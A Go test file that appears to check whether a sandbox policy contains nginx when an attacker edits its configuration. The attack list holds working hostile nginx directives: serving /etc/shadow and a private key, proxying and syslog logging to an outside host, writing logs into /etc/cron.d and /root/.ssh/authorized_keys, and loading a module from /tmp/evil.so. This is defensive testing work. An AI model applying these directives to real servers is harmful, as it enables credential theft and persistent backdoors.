// SPDX-License-Identifier: Apache-2.0

package servers

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"testing"
)

// nginx is Debian's, with its own configuration and one site more: files, uploads, and an application behind it.
type nginx struct {
	t    *testing.T
	unit *unit
	main *process
	app  string // the application's address
	// changes counts the configurations that it was given.
	changes int
}

const (
	nginxSite   = "/etc/nginx/sites-enabled/vigie"
	nginxRoot   = "/var/www/site"
	nginxErrors = "/var/log/nginx/error.log"
)

func (n *nginx) config() string {
	return `log_format timed '$remote_addr "$request" $status $request_time';
server {
	listen 8080;
	root ` + nginxRoot + `;
	access_log /var/log/nginx/site.log timed;
	error_log /var/log/nginx/site.error.log;
	client_body_buffer_size 1k;
	client_max_body_size 8m;
	location / { try_files $uri $uri/ =404; }
	location /app/ { proxy_pass http://` + n.app + `/; proxy_buffers 2 4k; proxy_buffer_size 4k; proxy_busy_buffers_size 4k; }
	location /upload/ { root /srv; dav_methods PUT DELETE; create_full_put_path on; }
}
`
}

func newNginx(t *testing.T, s *site, u *unit) *nginx {
	t.Helper()
	n := &nginx{t: t, unit: u, app: "127.0.0.1:9000"}
	s.serve(t, n.app, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		fmt.Fprintf(w, "%s %s %d\n", r.Method, r.URL.Path, len(body))
		if strings.HasSuffix(r.URL.Path, "large") {
			_, _ = w.Write(bytes.Repeat([]byte("large "), 100_000))
		}
	}))
	s.put("/etc/nginx/sites-enabled/default", readFile(t, "/etc/nginx/sites-available/default"), 0o644)
	s.put("/var/www/html/index.html", []byte("welcome\n"), 0o644)
	s.put(nginxRoot+"/index.html", []byte("hello\n"), 0o644)
	s.put(nginxSite, []byte(n.config()), 0o644)
	s.own(accountOf(t, "www-data"), "/srv/upload")
	return n
}

func (n *nginx) start() {
	n.t.Helper()
	n.main = n.unit.start("/usr/sbin/nginx", "-g", "daemon off; master_process on;")
	n.main.awaitReady(n.t, n.serves)
}

func (n *nginx) pid() int { return n.main.cmd.Process.Pid }

func (n *nginx) stop() {
	n.t.Helper()
	n.main.end(n.t, syscall.SIGQUIT)
	_ = n.unit.site.do(func() error { return os.Remove("/run/nginx.pid") }) // a unit's ExecStop would
}

func (n *nginx) serves() error { return n.get("/index.html", 200) }

// signal tells nginx something as its service does: by another nginx, inside of the unit.
func (n *nginx) signal(what string) error {
	_, err := n.unit.finish(how{as: n.unit.as, inside: true}, "/usr/sbin/nginx", "-s", what)
	return err
}

func (n *nginx) get(url string, want int) error {
	_, err := n.ask(http.MethodGet, "8080", url, nil, want)
	return err
}

// ask sends a request over a connection of its own.
func (n *nginx) ask(method, port, url string, body []byte, want int) (string, error) {
	client := n.unit.site.client()
	defer client.CloseIdleConnections()
	return askBy(client, method, "http://127.0.0.1:"+port+url, body, want)
}

func askBy(client *http.Client, method, url string, body []byte, want int) (string, error) {
	req, err := http.NewRequest(method, url, bytes.NewReader(body))
	if err != nil {
		return "", err
	}
	resp, err := client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err == nil && resp.StatusCode != want {
		err = fmt.Errorf("%s %s: %s, want %d", method, url, resp.Status, want)
	}
	return string(text), err
}

// words are enough different names for a directory's files to be seen as many.
func words() []string {
	return []string{"anchor", "beacon", "current", "dock", "ebb", "fathom", "galley", "harbour", "inlet", "jetty"}
}

func (n *nginx) load(label string) {
	n.t.Helper()
	s := n.unit.site
	must := func(_ string, err error) {
		n.t.Helper()
		if err != nil {
			n.t.Fatalf("load %s: %v", label, err)
		}
	}
	for _, w := range words() {
		s.put(nginxRoot+"/pages/"+w+"-"+label+".html", []byte(label), 0o644)
		for _, dir := range []string{"small", "large", "thumb"} {
			s.put(nginxRoot+"/images/"+dir+"-"+label+"/"+w+".png", bytes.Repeat([]byte{1}, 3000), 0o644)
		}
	}
	s.put(nginxRoot+"/download/release.bin", bytes.Repeat([]byte(label), 1<<20), 0o644)

	round := func() {
		n.t.Helper()
		kept := s.client() // connections are kept alive
		defer kept.CloseIdleConnections()
		for _, w := range words() {
			must(askBy(kept, "GET", "http://127.0.0.1:8080/pages/"+w+"-"+label+".html", nil, 200))
			for _, dir := range []string{"small", "large", "thumb"} {
				must(askBy(kept, "HEAD", "http://127.0.0.1:8080/images/"+dir+"-"+label+"/"+w+".png", nil, 200))
			}
			must(askBy(kept, "GET", "http://127.0.0.1:8080/"+w+"-"+label, nil, 404))
			must(n.ask("PUT", "8080", "/upload/"+w+"-"+label+".txt", bytes.Repeat([]byte(label), 1_000), 201))
			must(n.ask("DELETE", "8080", "/upload/"+w+"-"+label+".txt", nil, 204))
		}
		must(n.ask("GET", "80", "/", nil, 200))
		must(n.ask("GET", "8080", "/download/release.bin", nil, 200))
		must(n.ask("POST", "8080", "/app/form", bytes.Repeat([]byte(label), 10_000), 200))
		must(n.ask("GET", "8080", "/app/large", nil, 200))
		must(n.ask("POST", "8080", "/index.html", []byte("x"), 405))
	}
	round()
	must("", n.signal("reload"))
	round()
	// As logrotate does it.
	for _, name := range []string{"access.log", "error.log", "site.log", "site.error.log"} {
		s.must(func() error { return os.Rename("/var/log/nginx/"+name, "/var/log/nginx/"+name+"."+label) })
	}
	must("", n.signal("reopen"))
	await(n.t, "the logs to be made anew", func() bool { return s.exists("/var/log/nginx/site.error.log") })
	round()
	await(n.t, "the access log to be written", func() bool { return strings.Contains(s.text("/var/log/nginx/site.log"), label) })
}

// misconfigure has nginx take a configuration in which an attacker has put text behind what is in a file of it, or in the
// place of instead, and asks for something then.
func (n *nginx) misconfigure(file, text, instead string, then func() error) func() error {
	return func() error {
		s := n.unit.site
		n.changes++
		mark := fmt.Sprintf("up-%d", n.changes) // a worker with an older configuration does not say it
		text := strings.Replace(text, upMark, mark, 1)
		real := s.text(file)
		before := len(s.text(nginxErrors))
		changed := real + text
		if instead != "" {
			changed = strings.Replace(real, instead, text, 1)
		}
		s.put(file, []byte(changed), 0o644)
		defer func() {
			s.put(file, []byte(real), 0o644)
			n.hangUp()
			await(n.t, "nginx to serve as before", func() bool { return n.serves() == nil })
		}()
		n.hangUp()
		var err error
		await(n.t, "nginx to take the configuration or to say why not", func() bool {
			if _, why, refused := strings.Cut(s.text(nginxErrors)[before:], "[emerg]"); refused {
				err = errors.New(firstLine(why))
				return true
			}
			var answer string
			answer, err = n.visit("/up")
			return err == nil && answer == mark
		})
		if err != nil || then == nil {
			return err
		}
		return then()
	}
}

// hangUp tells the master to read its configuration.
func (n *nginx) hangUp() {
	n.t.Helper()
	if err := n.main.cmd.Process.Signal(syscall.SIGHUP); err != nil {
		n.t.Fatalf("tell nginx to read its configuration: %v", err)
	}
}

// upMark stands for what is different in every configuration.
const upMark = "UP-MARK"

// evil is a server of an attacker's configuration that answers on the port that nginx has anyway.
func evil(text string) string {
	return "server { listen 8080; server_name evil; location /up { return 200 " + upMark + "; } " + text + " }\n"
}

// visit asks the attacker's server. Error: it does not answer with 200.
func (n *nginx) visit(url string) (text string, err error) {
	client := n.unit.site.client()
	defer client.CloseIdleConnections()
	req, err := http.NewRequest(http.MethodGet, "http://127.0.0.1:8080"+url, nil)
	if err != nil {
		return "", err
	}
	req.Host = "evil"
	resp, err := client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err == nil && resp.StatusCode != http.StatusOK {
		err = errors.New(resp.Status)
	}
	return string(b), err
}

// loot visits a page that only the attacker's configuration has; workers with an older one say that it is not there.
func (n *nginx) loot(url string) func() error {
	return func() (err error) {
		await(n.t, "a worker with the new configuration", func() bool {
			_, err = n.visit(url)
			return err == nil || !strings.HasPrefix(err.Error(), "404")
		})
		return err
	}
}

func TestNginx(t *testing.T) {
	needProgram(t, "/usr/sbin/nginx")
	s := newSite(t)
	a := startAgent(t)
	u := newUnit(t, s, "nginx", account{})
	n := newNginx(t, s, u)
	g := &siege{agent: a, site: s, unit: u, server: n, binary: "/usr/sbin/nginx", policy: "nginx",
		traps: setTraps(t, s, elsewhere+":8888", elsewhere+":53", elsewhere+":514", bystander)}
	besiege(t, g)
	serve := func(url, location string) func() error {
		return n.misconfigure(nginxSite, evil("location "+url+" { "+location+" }"), "", n.loot(url))
	}
	written := func(name string) func() bool { return func() bool { return s.text(name) != "" } }
	s.put("/tmp/evil.so", readFile(t, program(t, "implant")), 0o755)
	g.attack(
		attack{"serve /etc/shadow", serve("/shadow", "alias "+shadow+";"), "read", shadow, nil},
		attack{"serve a private key", serve("/key", "alias "+secret+";"), "read", secret, nil},
		attack{"proxy to another host", serve("/host", "proxy_pass http://"+elsewhere+":8888/;"), "connect", elsewhere + ":8888", nil},
		attack{"proxy to another port", serve("/port", "proxy_pass http://"+bystander+"/;"), "connect", bystander, nil},
		attack{"ask a DNS server", serve("/name", "resolver "+elsewhere+"; resolver_timeout 1s; set $to evil.example; proxy_pass http://$to;"), "connect", elsewhere + ":53", nil},
		attack{"log to another host", n.misconfigure(nginxSite, evil("access_log syslog:server="+elsewhere+";"), "", func() error {
			return errors.New("whether it came is seen there")
		}), "connect", elsewhere + ":514", nil},
		attack{"listen on another port", n.misconfigure(nginxSite, evil("listen 8081;"), "", nil), "bind", "0.0.0.0:8081", nil},
		attack{"log into cron.d", n.misconfigure(nginxSite, evil("access_log /etc/cron.d/nginx;"), "", nil), "write", "/etc/cron.d/nginx", written("/etc/cron.d/nginx")},
		attack{"log errors into authorized_keys", n.misconfigure(nginxSite, evil("error_log /root/.ssh/authorized_keys;"), "", nil), "write", "/root/.ssh/authorized_keys", written("/root/.ssh/authorized_keys")},
		attack{"read /etc/shadow as a configuration", n.misconfigure(nginxSite, evil("include "+shadow+";"), "", nil), "read", shadow, nil},
		attack{"load a module", n.misconfigure("/etc/nginx/nginx.conf", "load_module /tmp/evil.so; user", "user", nil), "read", "/tmp/evil.so", nil},
		attack{"write the pid to another file", n.misconfigure("/etc/nginx/nginx.conf", "pid /tmp/evil.pid;", "pid /run/nginx.pid;", nil), "read|write", "/tmp/evil.pid", written("/tmp/evil.pid")},
	)
	g.inside("/var/log/nginx/site.log")
	g.report(20)
}

// serve runs an HTTP server in the site.
func (s *site) serve(t *testing.T, address string, h http.Handler) {
	t.Helper()
	var l net.Listener
	s.must(func() (err error) {
		l, err = net.Listen("tcp", address)
		return err
	})
	server := &http.Server{Handler: h}
	done := make(chan error)
	go func() { done <- server.Serve(l) }()
	t.Cleanup(func() { _ = server.Close(); <-done })
}

// client is an HTTP client whose connections come from within the site.
func (s *site) client() *http.Client {
	return &http.Client{Timeout: deadline, Transport: &http.Transport{DialContext: func(_ context.Context, network, address string) (c net.Conn, err error) {
		err = s.do(func() error {
			c, err = net.Dial(network, address)
			return err
		})
		return c, err
	}}}
}
